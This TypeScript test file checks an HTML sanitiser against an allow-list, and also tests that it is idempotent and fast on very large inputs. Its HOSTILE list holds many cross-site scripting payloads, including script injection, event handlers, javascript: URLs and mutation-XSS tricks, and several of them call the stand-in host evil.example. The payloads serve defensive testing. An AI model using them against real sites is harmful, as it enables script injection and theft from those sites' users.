import fc from 'fast-check';
import DOMPurify from 'isomorphic-dompurify';
import { describe, expect, it } from 'vitest';
import { IS_LONG } from '../../full-length';
import { expectWithin, measureProcessorTime } from '../../processor-time';
import { MAX_ELEMENTS } from '~/core/html/html';
import { toSanitizedHtml, RICH_TEXT_TAGS, sanitizeHtml } from '~/core/html/sanitize-html';

const ALLOWED = new Set<string>(RICH_TEXT_TAGS);
const HREF = /^(?:https?:\/\/|mailto:|tel:|\/(?![/\\])|#)/i;

/** The sanitiser's parser, without the sanitiser. */
const documents = (DOMPurify.sanitize('', { RETURN_DOM: true }) as HTMLElement).ownerDocument.implementation;

/** Parses the HTML as a browser does, and checks every element and attribute against the allow-list. */
function expectHarmless(html: string): void {
  const { body } = documents.createHTMLDocument();
  body.innerHTML = html;
  for (const element of body.querySelectorAll('*')) {
    expect(ALLOWED).toContain(element.localName);
    expect(element.namespaceURI).toBe('http://www.w3.org/1999/xhtml');
    for (const { name, value } of element.attributes) {
      expect(['href', 'rel']).toContain(name);
      if (name === 'href') expect(value).toMatch(HREF);
    }
  }
}

function expectSanitised(html: string): string {
  const result = sanitizeHtml(html);
  expectHarmless(result);
  expect(sanitizeHtml(result), 'sanitised twice').toBe(result);
  // What is taken for sanitised is not changed by sanitising.
  expect(toSanitizedHtml(html)).toBe(result);
  return result;
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<script src=//evil.example></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<p/onclick=alert(1)>x',
  '<img src=x onerror=alert(1)>',
  '<body onload=alert(1)>x',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" JaVa\nScript:alert(1)">x</a>',
  '<a href="java&#115;cript&colon;alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="https://a.example" target=_blank style="position:fixed;inset:0" onfocus=alert(1) autofocus>x</a>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">',
  '<style>@import "//evil.example"</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example">',
  '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<template><script>alert(1)</script></template>',
  '<textarea></p><script>alert(1)</script></textarea>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p id=attributes name=body>x<a name=parentNode href=/a>y</a></p>',
  '<p title="<script>alert(1)</script>">x</p>',
  '<a href="https://a.example/?<script>alert(1)</script>">x</a>',
  '<a href=\'https://a.example/"onclick="alert(1)\'>x</a>',
  '<p\u0000onclick=alert(1)>x</p><scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<<script>alert(1)//<</script>',
  '<x-widget is=evil><slot name=x>x</slot></x-widget>',
];

describe('hostile markup is harmless', () => {
  it.each(HOSTILE)('%s', (html) => {
    expect(expectSanitised(html)).not.toMatch(/<script|onerror=\w|evil\.example/);
    expectSanitised(`<p>before ${html} after</p>`);
  });

  const pieces = [
    ...HOSTILE,
    ...RICH_TEXT_TAGS.flatMap((tag) => [`<${tag}>`, `</${tag}>`]),
    ...['<a href=/x>', '<h2><br></h2>', '<a href="/x"> </a>', '&quot;', '&nbsp;', '\f', 'text'],
  ];

  it('in any mixture', { timeout: 120_000 }, () => {
    const mixture = fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string()), { maxLength: 12 });
    fc.assert(
      fc.property(mixture, (parts) => void expectSanitised(parts.join(''))),
      { numRuns: IS_LONG ? 1_000 : 30 },
    );
  });
});

describe('200,000 characters that a parser would take minutes for', () => {
  const filled = (piece: string) => piece.repeat(200_000 / piece.length);
  const formatting = Array.from({ length: 30 }, (_, index) => `<b class=x${index}>`).join('');

  it.each([
    ['nested unknown tags', filled('<div>')],
    ['attributes', `<p ${filled('a=1 ').replace(/a/g, () => `a${Math.random()}`)}>x`],
    ['formatting that is never closed', `<div>${formatting}</div>${filled('<p>x').slice(0, 199_000)}`],
    ['foreign markup', filled('<svg><math>')],
  ])('%s', { timeout: 60_000 }, (_, html) => {
    const processorTime = measureProcessorTime();
    const result = sanitizeHtml(html);
    const took = processorTime();
    // A parser that repairs such markup takes 20 to 100 seconds; the sanitiser takes some 0.2 for the elements that it keeps.
    expectWithin(took, 2_000);
    expect(result.match(/<(?!\/)/g)?.length ?? 0).toBeLessThanOrEqual(MAX_ELEMENTS);
  });
});
